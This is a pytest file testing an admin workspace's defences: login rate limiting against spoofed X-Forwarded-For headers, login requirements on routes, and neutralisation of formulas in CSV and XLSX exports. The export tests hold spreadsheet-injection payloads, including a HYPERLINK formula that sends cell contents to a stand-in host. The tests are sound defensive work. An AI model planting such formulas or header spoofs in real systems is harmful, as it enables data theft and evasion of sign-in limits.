"""Issue 15, finding 5 and the sqladmin routes: the staff sign-in cannot be worn down unseen."""

from __future__ import annotations

import pytest
from starlette.routing import Mount, Route

from tests.staff.conftest import PASSWORDS, StaffClient


def test_forwarded_for_from_an_untrusted_peer_does_not_reset_the_address_limit(staff_app):
    client = StaffClient(staff_app, client_ip="203.0.113.5")
    statuses = []
    for attempt in range(22):  # the per-address limit is 20 failures in 15 minutes
        token = client.token("/admin/login")
        response = client.http.post(
            "/admin/login",
            data={"username": f"nobody{attempt}", "password": "sai-mat-khau", "csrf_token": token},
            headers={"X-Forwarded-For": f"198.51.100.{attempt}"},
            follow_redirects=False,
        )
        statuses.append(response.status_code)
    assert statuses[-1] == 429, statuses


def test_head_on_the_login_page_never_attempts_a_sign_in(staff_app):
    client = StaffClient(staff_app, client_ip="203.0.113.6")
    for _ in range(10):
        assert client.http.head("/admin/login").status_code == 200
    # No failure was counted: the account is not locked.
    assert client.login("editor1", PASSWORDS["editor1"]).status_code == 302


def _routes(app, prefix: str = ""):  # noqa: ANN001, ANN202
    for route in getattr(app, "routes", []):
        if isinstance(route, Mount):
            yield from _routes(route.app, prefix + route.path)
        elif isinstance(route, Route):
            yield prefix + route.path


@pytest.mark.parametrize("identity", ["faq-entry", "event", "staff-user"])
def test_ajax_lookup_needs_a_signed_in_member(staff_app, identity):
    client = StaffClient(staff_app, client_ip="203.0.113.7")
    response = client.get(f"/admin/{identity}/ajax/lookup?name=x&term=a", follow_redirects=False)
    assert response.status_code == 401


def test_every_workspace_route_but_sign_in_and_static_needs_login(staff_app):
    client = StaffClient(staff_app, client_ip="203.0.113.8")
    open_paths = {"/admin/login", "/admin/logout", "/admin/statics", "/admin/"}
    checked = 0
    for path in _routes(staff_app):
        if path in open_paths or path.startswith("/admin/statics"):
            continue
        url = (path.replace("{identity}", "faq-entry").replace("{pk}", "1")
               .replace("{export_type}", "csv").replace("{path:path}", "x")
               .replace("{op}", "publish").replace("{revision_id}", "1").replace("{name}", "x"))
        url = url.split("{")[0] if "{" in url else url
        response = client.get(url, follow_redirects=False)
        assert response.status_code != 200, url
        checked += 1
    assert checked >= 5


# --- issue 15: exports never carry a live spreadsheet formula --------------------------------


def test_formulas_are_neutralised_in_csv_and_xlsx_and_come_back_unchanged():
    import io

    from openpyxl import load_workbook

    from bot.staff.transfer.tabular import read_rows, write_rows

    evil = ['=HYPERLINK("http://x.example/?d="&A1,"bấm")', "+1+2", "-3", "@SUM(A1)", "\tx"]
    rows = [{"name": value, "note": "bình thường"} for value in evil]
    csv_bytes = write_rows(["name", "note"], rows, "csv")
    for line in csv_bytes.decode("utf-8-sig").splitlines()[1:]:
        assert line.lstrip('"').startswith("'")
    sheet = load_workbook(io.BytesIO(write_rows(["name", "note"], rows, "xlsx"))).active
    assert all(str(cell.value).startswith("'") for cell in sheet["A"][1:])
    for fmt, content in (("csv", csv_bytes), ("xlsx", write_rows(["name", "note"], rows, "xlsx"))):
        assert [r.values["name"] for r in read_rows(content, fmt)] == evil


def test_the_registrations_export_neutralises_formulas(staff_db, signed_in):
    import datetime as dt

    from bot.db import session_scope
    from bot.events.models import Event, Registration

    start = dt.datetime(2026, 12, 10, 1, 0, tzinfo=dt.UTC)
    with session_scope(staff_db) as session:
        event = Event(external_key="test-export", title="Hội thảo thử", start_at=start,
                      end_at=start + dt.timedelta(hours=2))
        session.add(event)
        session.flush()
        session.add(Registration(event_id=event.id, code="DK-ABCDEF", name='=HYPERLINK("x")',
                                 organisation="@evil", status="active", channel="rest",
                                 sender_id="s-1", consent_at=start))
    client = signed_in("editor1")
    response = client.get("/admin/registration/export/csv")
    assert response.status_code == 200, response.text[:300]
    assert "'=HYPERLINK" in response.text and "'@evil" in response.text
    assert ',=HYPERLINK' not in response.text and ',"=HYPERLINK' not in response.text
